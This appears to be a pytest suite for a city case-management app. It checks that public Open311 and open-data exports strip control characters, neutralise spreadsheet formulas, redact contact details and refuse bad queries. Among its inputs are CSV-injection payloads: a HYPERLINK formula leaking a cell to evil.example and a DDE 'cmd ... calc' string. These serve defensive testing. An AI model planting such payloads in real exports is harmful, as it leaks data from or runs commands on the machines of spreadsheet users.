"""What the city publishes stays readable and private whatever its database holds: old rows
with characters XML forbids, names written as spreadsheet formulas, contact details written in
unusual shapes, coordinates stored finer than the city publishes. Out-of-range query values
are refused with a 400, and the daily open-data dump runs as the command it is."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from evaluation_world import build_month
from open311_world import IN_EAST, IN_WEST, build_world
from public_outputs import OPEN311_WINDOW, public_documents, read_csv
from sqlalchemy import func, select, text

from gridmgr.cases.models import Case
from gridmgr.cli import main
from gridmgr.extensions import db
from gridmgr.opendata.exports import CASE_COLUMNS
from gridmgr.people.models import User

# When a report may be published is the privacy sweep's story (test_privacy_sweep.py).
pytestmark = pytest.mark.usefixtures("publish_at_once")

K2 = "20261100000002"  # a citizen's report in grid A1 of the evaluation month


@pytest.fixture
def month(app_ctx, make_user):
    return build_month(make_user)


@pytest.fixture
def chief(month, auth_headers):
    """The city's duty chief, who downloads the statistics as CSV."""
    return auth_headers(db.session.get(User, month["users"]["chief"]))


def store(sql: str, **params) -> None:
    """Write straight into the database, as old rows and imported history were written."""
    db.session.execute(text(sql), params)
    db.session.commit()


def add_note(note: str) -> None:
    """A note the public reads on K2's history, the reason of a cancellation (history is
    append-only: a step is added, never edited)."""
    store("INSERT INTO case_history (case_id, actor_role, action, from_state, to_state, at, "
          "note) SELECT id, 'operator', 'cancel', state, 'cancelled', "
          "'2026-11-30T10:00:00+08:00', :n "
          "FROM cases WHERE code = :code", n=note, code=K2)


def open311(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, response.data
    return response.get_json()


# --- well formed whatever is stored ----------------------------------------------------------

def test_old_rows_with_control_characters_still_give_readable_xml_and_json(client, month, chief):
    store("UPDATE cases SET description = :d WHERE code = :code",
          d="Bin\x01 overflowing\x0b at the\ufffe gate\uffff, \x1fsince\tMonday\r\n", code=K2)
    store("UPDATE regions SET name = :n WHERE code = '110105001001001'", n="Grid\x07 A1\x1b")
    add_note("Checked\x02 on site")
    store("UPDATE users SET display_name = :n WHERE username = 'insp1'", n="Li\x08Wei")
    store("UPDATE departments SET name = :n WHERE name = '环卫'", n="环卫\x0c")

    documents = public_documents(client, K2, chief)

    one = documents[f"/open311/v2/requests/{K2}.json"][0]
    assert one["description"] == "Bin overflowing at the gate, since\tMonday\r\n"
    assert one["address"].endswith("Grid A1")
    assert one["status_notes"] == "Checked on site"
    xml = documents[f"/open311/v2/requests/{K2}.xml"]
    assert xml.find("request/description").text == "Bin overflowing at the gate, since\tMonday\n"
    listed = {r["service_request_id"]: r
              for r in documents[f"/open311/v2/requests.json?{OPEN311_WINDOW}"]}
    assert listed[K2]["description"] == one["description"]
    grids = documents["/open-data/regions.geojson?level=grid"]["features"]
    assert "Grid A1" in {f["properties"]["name"] for f in grids}
    people = documents["/api/v1/stats/people?period=2026-11&format=csv"]
    assert "LiWei" in {row["name"] for row in people}
    departments = documents["/api/v1/stats/departments?period=2026-11&format=csv"]
    assert "环卫" in {row["name"] for row in departments}


# --- spreadsheet formulas --------------------------------------------------------------------

def test_a_display_name_written_as_a_formula_reaches_the_chief_as_text(client, month, chief):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    store("UPDATE users SET display_name = :n WHERE username = 'insp1'", n=formula)
    store("UPDATE departments SET name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE name = '市政'")
    store("UPDATE regions SET name = '-2+3' WHERE code = '110105001'")
    store("UPDATE categories SET name_zh = :n WHERE code = 'T0101'", n="\t=1+1")

    people = read_csv(client.get("/api/v1/stats/people?period=2026-11&format=csv",
                                 headers=chief).get_data(as_text=True))
    assert {row["username"]: row["name"] for row in people}["insp1"] == "'" + formula
    insp1 = next(row for row in people if row["username"] == "insp1")
    assert float(insp1["score"]) == 85.0 and int(insp1["reported"]) > 0
    departments = read_csv(client.get("/api/v1/stats/departments?period=2026-11&format=csv",
                                      headers=chief).get_data(as_text=True))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {row["name"] for row in departments}
    regions = read_csv(client.get(
        "/api/v1/stats/regions?period=2026-11&level=street&format=csv",
        headers=chief).get_data(as_text=True))
    assert "'-2+3" in {row["name"] for row in regions}
    categories = read_csv(client.get("/api/v1/stats/categories?period=2026-11&format=csv",
                                     headers=chief).get_data(as_text=True))
    assert "'\t=1+1" in {row["name"] for row in categories}

    cases = read_csv(client.get("/open-data/cases.csv").get_data(as_text=True))
    assert {row["category_name_zh"] for row in cases} >= {"'\t=1+1"}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {row["agency_responsible"] for row in cases}


def test_a_case_west_of_greenwich_keeps_a_numeric_negative_longitude(client, month):
    store("UPDATE cases SET location = ST_SetSRID(ST_MakePoint(-73.985656, 40.748433), 4326) "
          "WHERE code = :code", code=K2)
    body = client.get("/open-data/cases.csv").get_data(as_text=True)
    row = next(r for r in read_csv(body) if r["code"] == K2)
    assert (row["lon"], row["lat"]) == ("-73.985656", "40.748433")


# --- refusals instead of server errors -------------------------------------------------------

@pytest.mark.parametrize("query, words", [
    ("start_date=9999-12-31T23:59:59", "90-day window"),
    ("end_date=0001-01-01T00:00:00Z", "90-day window"),
    ("page=9223372036854775807", "page may be at most"),
    ("page=99999999999999999999999", "page may be at most"),
])
def test_an_open311_query_out_of_range_is_a_400_not_a_crash(client, month, query, words):
    for fmt in ("json", "xml"):
        for call in ("requests", "servicerequestupdates"):
            response = client.get(f"/open311/v2/{call}.{fmt}?{query}")
            assert response.status_code == 400, (call, query, response.data)
            if fmt == "json":
                [error] = response.get_json()
            else:
                error = {e.tag: e.text for e in ElementTree.fromstring(response.data)[0]}
            assert str(error["code"]) == "400" and words in error["description"]
    assert db.session.scalar(select(func.count()).select_from(Case)) == 11


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00%2B14:00", "0001-01-01T00:00:00+14:00",
                                   "9999-12-31T23:59:59-14:00"])
def test_an_open_data_date_before_year_one_in_utc_is_a_400(client, month, value):
    for name in ("start_date", "end_date"):
        for doc in ("cases.csv", "cases.geojson"):
            response = client.get(f"/open-data/{doc}?{name}={value}")
            assert response.status_code == 400, response.data
            error = response.get_json()["error"]
            assert error["code"] == "invalid_datetime" and name in error["message"]


def test_a_nul_character_in_a_public_query_is_a_400_not_a_crash(client, month):
    for url in ("/open-data/cases.csv?category=%00", "/open-data/regions.geojson?city=a%00",
                "/open311/v2/requests.json?service_code=%00",
                "/open311/v2/requests.xml?service_request_id=%00",
                "/open311/v2/requests/%00.json", "/open311/v2/services/%00.xml",
                "/open311/v2/requests.json?jurisdiction_id=%00",
                "/open311/v2/servicerequestupdates.json?service_request_id=1%00"):
        response = client.get(url)
        assert response.status_code == 400, (url, response.data)
        if url.startswith("/open-data"):
            assert response.get_json()["error"]["code"] == "invalid_character"
        elif ".xml" in url:
            assert "NUL" in ElementTree.fromstring(response.data).find("error/description").text
        else:
            assert "NUL" in response.get_json()[0]["description"]


@pytest.mark.parametrize("query, code", [("limit=²", "invalid_limit"),
                                         ("region=１１０１０５", "invalid_region")])
def test_open_data_filters_in_other_digits_are_refused(client, month, query, code):
    response = client.get(f"/open-data/cases.csv?{query}")
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == code


# --- the daily dump --------------------------------------------------------------------------

def test_the_daily_dump_runs_as_a_command_and_writes_every_file_whole(app, client, runner,
                                                                       tmp_path):
    with app.app_context():
        world = build_world()
        for point in (IN_WEST, IN_EAST, IN_WEST):
            answer = client.post("/open311/v2/requests.json", data={
                "api_key": world.api_key, "service_code": "C9801", "lat": point[1],
                "long": point[0], "description": "=1+1 lamp out"})
            assert answer.status_code == 200, answer.data
        store("UPDATE regions SET name = name || :bad WHERE level = 'grid'", bad="\x01=")
        db.session.remove()
    day = datetime.now(ZoneInfo("Asia/Shanghai")).date().isoformat()

    # No application context is open here, as under cron.
    result = runner.invoke(main, ["export", "--out", str(tmp_path), "--date", day])

    assert result.exit_code == 0, result.output + repr(result.exception)
    folder = tmp_path / day
    assert sorted(p.name for p in folder.iterdir()) == sorted([
        "cases.csv", "cases.geojson", "regions-district.geojson", "regions-street.geojson",
        "regions-community.geojson", "regions-grid.geojson"])
    rows = read_csv((folder / "cases.csv").read_text(encoding="utf-8"))
    assert len(rows) == 3 and list(rows[0]) == CASE_COLUMNS
    cases = json.loads((folder / "cases.geojson").read_text(encoding="utf-8"))
    assert sorted(f["id"] for f in cases["features"]) == sorted(r["code"] for r in rows)
    grids = json.loads((folder / "regions-grid.geojson").read_text(encoding="utf-8"))
    assert {f["properties"]["name"] for f in grids["features"]} == {
        "多福巷社区1号网格=", "多福巷社区2号网格="}
    for level in ("district", "street", "community"):
        document = json.loads((folder / f"regions-{level}.geojson").read_text(encoding="utf-8"))
        assert len(document["features"]) == 1


# --- contact details in other shapes ---------------------------------------------------------

CONTACT_SHAPES = [
    "138.0000.1234", "138 0000 1234", "138-0000-1234", "1380 000 1234", "+86 138 0000 1234",
    "１３８００００１２３４", "１３８－００００－１２３４", "(010) 6234 5678", "010.6234.5678",
    "zhang.wei@example.cn", "zhang.wei＠example.cn", "zhang.wei(at)example.com",
    "zhang.wei [at] example [dot] com", "zhang.wei at example dot com",
    "ZHANG AT EXAMPLE DOT CN", "zhang.wei at example.com", "110101199003071234",
    "11010119900307123X", "１１０１０１１９９００３０７１２３ｘ", "110101 19900307 1234",
]


def test_contact_details_in_any_shape_are_redacted_publicly(client, month):
    for written in CONTACT_SHAPES:
        store("UPDATE cases SET description = :d WHERE code = :code",
              d=f"路灯不亮，联系：{written}（下午）", code=K2)
        add_note(f"Called back on {written}.")

        for fmt in ("json", "xml"):
            for url in (f"/open311/v2/requests/{K2}.{fmt}?extensions=true",
                        f"/open311/v2/requests.{fmt}?{OPEN311_WINDOW}",
                        f"/open311/v2/servicerequestupdates.{fmt}?{OPEN311_WINDOW}"):
                body = client.get(url).get_data(as_text=True)
                assert "1234" not in body and "example" not in body, (written, url)
        [one] = open311(client, f"/open311/v2/requests/{K2}.json")
        assert one["description"] == "路灯不亮，联系：[redacted]（下午）", written
        assert one["status_notes"] == "Called back on [redacted].", written


def test_case_codes_times_and_dates_are_not_mistaken_for_contact_details(client, month):
    for kept in ("Case 20261100000002 in grid 110105001001001.",
                 "We arrived at 9.30 and left at 10.15.",
                 "The lamp at gate 3 is out. Then the next one.", "２０２６年１１月２６日，３号楼",
                 "Reported on 2026-11-26 at 13:45."):
        store("UPDATE cases SET description = :d WHERE code = :code", d=kept, code=K2)
        [one] = open311(client, f"/open311/v2/requests/{K2}.json")
        assert one["description"] == kept


# --- coordinates -----------------------------------------------------------------------------

def test_a_phone_report_stored_at_seven_decimals_is_published_at_six(client, month):
    store("UPDATE cases SET location = ST_SetSRID(ST_MakePoint(116.3051234567, 39.9109876543), "
          "4326) WHERE code = :code", code=K2)
    [one] = open311(client, f"/open311/v2/requests/{K2}.json")
    assert (one["long"], one["lat"]) == (116.305123, 39.910988)
    xml = ElementTree.fromstring(client.get(f"/open311/v2/requests/{K2}.xml").data)
    assert (xml.find("request/long").text, xml.find("request/lat").text) == (
        "116.305123", "39.910988")
    listed = {r["service_request_id"]: r
              for r in open311(client, f"/open311/v2/requests.json?{OPEN311_WINDOW}")}
    assert (listed[K2]["long"], listed[K2]["lat"]) == (116.305123, 39.910988)
    feature = next(f for f in json.loads(client.get("/open-data/cases.geojson").data)["features"]
                   if f["id"] == K2)
    assert feature["geometry"]["coordinates"] == [116.305123, 39.910988]
    row = next(r for r in csv.DictReader(io.StringIO(
        client.get("/open-data/cases.csv").get_data(as_text=True))) if r["code"] == K2)
    assert (row["lon"], row["lat"]) == ("116.305123", "39.910988")
